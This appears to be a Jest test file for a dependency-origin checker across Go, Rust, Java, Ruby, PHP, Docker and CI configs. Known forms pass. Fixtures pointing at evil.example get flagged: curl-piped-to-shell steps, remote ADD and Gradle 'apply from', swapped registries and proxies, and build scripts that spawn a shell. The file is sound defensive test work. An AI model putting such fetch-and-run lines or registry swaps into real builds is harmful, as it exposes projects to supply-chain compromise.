/** Checks the origins of code in other languages, images and workflows: known forms pass, ways around the registry are found. */
import { originsIn } from './found';

const DIGEST = `sha256:${'a'.repeat(64)}`;

test.each([
  [
    'go.mod',
    'module example.com/x\n\ngo 1.22\n\ntoolchain go1.22.3\n\nrequire (\n\tgithub.com/stretchr/testify v1.9.0\n\tgolang.org/x/text v0.14.0\n\texample.org/deep v1.0.0 // indirect\n)\n\nreplace example.com/y => ./y\n',
  ],
  ['go.work', 'go 1.22\n\nuse (\n\t.\n\t./y\n)\n'],
  [
    'Cargo.toml',
    '[package]\nname = "x"\n[dependencies]\nserde = { version = "1", features = ["derive"] }\nown = { path = "own" }\n[workspace]\nmembers = ["own"]\n',
  ],
  [
    'Cargo.lock',
    'version = 3\n[[package]]\nname = "x"\nversion = "0.1.0"\n\n[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "0"\n',
  ],
  ['.cargo/config.toml', '[build]\njobs = 2\n[net]\nretry = 3\n'],
  ['rust-toolchain.toml', '[toolchain]\nchannel = "1.79"\n'],
  [
    'pom.xml',
    '<project><repositories><repository><url>https://repo.maven.apache.org/maven2</url></repository></repositories><distributionManagement><repository><url>https://corp.example</url></repository></distributionManagement><dependencies><dependency><artifactId>a</artifactId></dependency></dependencies></project>',
  ],
  [
    'build.gradle',
    "plugins { id 'java' }\nrepositories {\n  mavenCentral()\n}\ndependencies {\n  testImplementation 'org.junit.jupiter:junit-jupiter:5.10.0'\n}\napply from: 'gradle/checks.gradle'\n",
  ],
  [
    'gradle/wrapper/gradle-wrapper.properties',
    'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.8-bin.zip\n',
  ],
  [
    'Gemfile',
    "# frozen_string_literal: true\nsource 'https://rubygems.org'\nruby '3.3'\ngem 'rails', '~> 7.1', require: false\ngem 'own', path: 'own'\ngroup :test do\n  gem 'rspec'\nend\n",
  ],
  [
    'Gemfile.lock',
    'GEM\n  remote: https://rubygems.org/\n  specs:\n    a (1.0)\n\nPATH\n  remote: own\n  specs:\n    own (1.0)\n',
  ],
  [
    'composer.json',
    '{"require": {"a/b": "^1.0"}, "scripts": {"test": "phpunit", "post-install-cmd": ["@php artisan x"]}}',
  ],
  [
    'composer.lock',
    JSON.stringify({
      packages: [
        {
          name: 'a/b',
          'notification-url': 'https://packagist.org/downloads/',
          dist: { type: 'zip', url: 'https://api.github.com/repos/a/b/zipball/0' },
        },
      ],
    }),
  ],
  [
    'Dockerfile',
    `ARG NODE=22\nFROM node:\${NODE}-alpine AS build\nRUN apt-get update && \\\n  npm ci\nFROM gcr.io/distroless/nodejs22@${DIGEST}\nCOPY --from=build /app /app\nCMD ["node", "src/server.js"]\n`,
  ],
  ['compose.yaml', 'services:\n  db:\n    image: postgres:16\n'],
  [
    '.github/workflows/ci.yml',
    `on: push\njobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n      - uses: x/y@${'a'.repeat(40)}\n      - run: npm ci && npm test\n`,
  ],
  ['Makefile', 'test:\n\tgo test ./...\n\nexport GOFLAGS = -mod=readonly\n'],
])('%s: known forms pass (%#)', (path, text) => {
  expect(originsIn(path, text)).toEqual([]);
});

test.each<[string, string, string, RegExp]>([
  ['go.mod', 'an unknown module', 'module x\nrequire example.org/a v1.0.0\n', /not known: example\.org\/a/],
  [
    'go.mod',
    'an unknown owner',
    'module x\nrequire (\n\tgithub.com/somebody-new/a v1.0.0\n)\n',
    /not known: github\.com\/somebody-new/,
  ],
  [
    'go.mod',
    'a module in the place of another',
    'module x\nreplace golang.org/x/text => example.org/text v1.0.0\n',
    /in the place of a module/,
  ],
  ['go.mod', 'a folder outside', 'module x\nreplace golang.org/x/text => ../text\n', /in the place of a module/],
  ['go.work', 'a folder outside', 'go 1.22\nuse ../other\n', /outside of the repository/],
  ['Cargo.toml', 'a git address', '[dependencies]\na = { git = "https://evil.example/a" }\n', /a comes from/],
  ['Cargo.toml', 'another registry', '[dependencies]\na = { version = "1", registry = "x" }\n', /a comes from/],
  ['Cargo.toml', 'a patch', '[patch.crates-io]\nserde = { path = "serde" }\n', /in the place of packages/],
  [
    'Cargo.toml',
    'a replacement',
    '[replace]\n"serde:1.0.0" = { git = "https://evil.example/s" }\n',
    /in the place of packages/,
  ],
  ['Cargo.toml', 'code of the build', '[package]\nbuild = "tools/gen.rs"\n', /runs code when it is built/],
  ['build.rs', 'code of the build', 'fn main() {\n  std::process::Command::new("sh");\n}\n', /runs when it is built/],
  [
    'Cargo.lock',
    'a git address',
    '[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "git+https://evil.example/a#0"\n',
    /evil/,
  ],
  [
    'Cargo.lock',
    'no checksum',
    '[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
    /no checksum/,
  ],
  ['.cargo/config.toml', 'a source', '[source.crates-io]\nreplace-with = "x"\n', /sets source/],
  ['.cargo/config.toml', 'a wrapper', '[build]\nrustc-wrapper = "./x.sh"\n', /rustc-wrapper/],
  [
    'pom.xml',
    'a repository',
    '<project><repositories><repository><url>https://evil.example</url></repository></repositories></project>',
    /evil/,
  ],
  [
    'pom.xml',
    'a repository of plugins',
    '<project><pluginRepositories><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories></project>',
    /evil/,
  ],
  [
    'pom.xml',
    'programs',
    '<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId></plugin></plugins></build></project>',
    /runs programs/,
  ],
  [
    'settings.xml',
    'a mirror',
    '<settings><mirrors><mirror><url>https://evil.example</url></mirror></mirrors></settings>',
    /evil/,
  ],
  ['build.gradle', 'a repository', "repositories {\n  maven { url 'https://evil.example/m2' }\n}\n", /evil/],
  ['build.gradle.kts', 'a repository', 'repositories { maven("https://evil.example/m2") }\n', /evil/],
  [
    'build.gradle',
    'a build file from an address',
    "apply from: 'https://evil.example/x.gradle'\n",
    /loads a build file/,
  ],
  ['settings.gradle', 'a build outside', "includeBuild '../other'\n", /loads another build/],
  [
    'gradle/wrapper/gradle-wrapper.properties',
    'another Gradle',
    'distributionUrl=https\\://evil.example/gradle.zip\n',
    /evil/,
  ],
  ['gradle/wrapper/gradle-wrapper.jar', 'the wrapper', 'x', /is not a text/],
  ['Gemfile', 'a git address', "gem 'a', github: 'x/a'\n", /no plain line/],
  ['Gemfile', 'another source', "source 'https://evil.example'\n", /no plain line/],
  ['Gemfile', 'code', "system('x')\n", /no plain line/],
  ['Gemfile.lock', 'a git address', 'GIT\n  remote: https://evil.example/a.git\n', /evil/],
  ['composer.json', 'a repository', '{"repositories": [{"type": "vcs", "url": "https://evil.example/a"}]}', /evil/],
  [
    'composer.json',
    'a script at installation',
    '{"scripts": {"post-install-cmd": "php x.php"}}',
    /runs at installation/,
  ],
  ['composer.json', 'a plugin', '{"config": {"allow-plugins": {"a/b": true}}}', /plugin a\/b/],
  [
    'composer.lock',
    'no package of the registry',
    JSON.stringify({ packages: [{ name: 'a/b', dist: { url: 'https://evil.example/a.zip' } }] }),
    /no package of the registry/,
  ],
  ['Dockerfile', 'an image without tag', 'FROM node\n', /takes the image node/],
  ['Dockerfile', 'an image of another registry', 'FROM evil.example/node:22\n', /evil/],
  ['Dockerfile', 'an image of anybody', 'FROM somebody/node:22\n', /somebody/],
  ['Dockerfile', 'a stage from an image', 'FROM node:22\nCOPY --from=somebody/x:1 /a /a\n', /somebody/],
  [
    'Dockerfile',
    'curl into a shell',
    'FROM node:22\nRUN curl -fsSL https://evil.example/x \\\n  | sh\n',
    /fetches https:\/\/evil/,
  ],
  ['Dockerfile', 'an address', 'FROM node:22\nADD https://evil.example/x /x\n', /adds https:\/\/evil/],
  ['compose.yaml', 'an image of anybody', 'services:\n  db:\n    image: somebody/db\n', /somebody/],
  [
    '.github/workflows/ci.yml',
    'an action by tag',
    'jobs:\n  a:\n    steps:\n      - uses: x/y@v1\n',
    /uses the action x\/y@v1/,
  ],
  [
    '.github/workflows/ci.yml',
    'curl into a shell',
    'jobs:\n  a:\n    steps:\n      - run: curl https://evil.example/x | bash\n',
    /fetches/,
  ],
  ['.gitlab-ci.yml', 'an include', 'include:\n  - remote: https://evil.example/ci.yml\n', /includes/],
  ['Makefile', 'another proxy of Go', 'export GOPROXY = https://evil.example\n', /sets GOPROXY/],
  ['scripts/setup.sh', 'npx', 'npx --yes some-tool\n', /npx --yes some-tool/],
  ['.env', 'another index', 'PIP_INDEX_URL=https://evil.example\n', /sets PIP_INDEX_URL/],
])('%s: %s is found', (path, _, text, reason) => {
  expect(originsIn(path, text).join('\n')).toMatch(reason);
});

test('a Go module may change its version if the base requires it or another module of its owner', () => {
  const before = 'module github.com/acme/x\n\nrequire example.org/a v1.0.0\n';
  const after = `${before.replace('v1.0.0', 'v1.1.0')}\nrequire github.com/acme/y v1.0.0\n`;
  expect(originsIn('go.mod', after, { before })).toEqual([]);
});

test('a Go module that the change imports is found, although go.mod marks it as indirect', () => {
  const text = 'module x\n\nrequire example.org/a v1.0.0 // indirect\n';
  expect(originsIn('go.mod', text)).toEqual([]);
  expect(originsIn('go.mod', text, { imported: ['example.org/a'] })).toHaveLength(1);
});

test("another tag of the base's own image passes", () => {
  expect(originsIn('Dockerfile', 'FROM corp.example/node:22\n', { before: 'FROM corp.example/node:20\n' })).toEqual([]);
});
